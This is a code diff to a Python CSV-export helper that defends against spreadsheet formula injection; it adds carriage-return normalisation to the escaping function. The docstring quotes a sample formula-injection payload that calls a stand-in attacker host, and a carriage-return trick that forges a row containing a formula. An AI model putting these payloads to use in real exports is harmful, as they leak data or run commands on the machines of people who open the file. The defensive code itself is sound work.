@@ -5,8 +5,11 @@ formula (and tab or carriage return can smuggle one in), so a risk title such as
 ``=HYPERLINK("https://evil.example?"&A1)`` typed by one user would run on the machine of whoever
 opens the export (CSV or formula injection). Every free-text cell that starts with one of those
 characters gets a leading ``'``, which spreadsheets read as "this is text" and do not show.
-Numbers, dates and flags are written as they are (``-0.5`` stays a number); the typed formats
-(JSON, Parquet) carry the text unchanged because nothing evaluates them.
+A carriage return inside a cell becomes a line feed: Python's CSV writer (ending lines with
+``\n``) leaves a lone ``\r`` unquoted, and Excel, Power BI and most readers end the row there, so
+``"x\r=cmd..."`` would start a forged row with a formula in it; a line feed makes the writer quote
+the cell. Numbers, dates and flags are written as they are (``-0.5`` stays a number); the typed
+formats (JSON, Parquet) carry the text unchanged because nothing evaluates them.
 """
 
 from __future__ import annotations
@@ -18,5 +21,6 @@ FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 
 
 def csv_text(value: str) -> str:
-    """``value`` as a CSV cell no spreadsheet runs as a formula."""
-    return f"'{value}" if value.startswith(FORMULA_STARTS) else value
+    """``value`` as a CSV cell no spreadsheet runs as a formula, with its line ends ``\n``."""
+    text = value.replace("\r\n", "\n").replace("\r", "\n")
+    return f"'{text}" if value.startswith(FORMULA_STARTS) else text
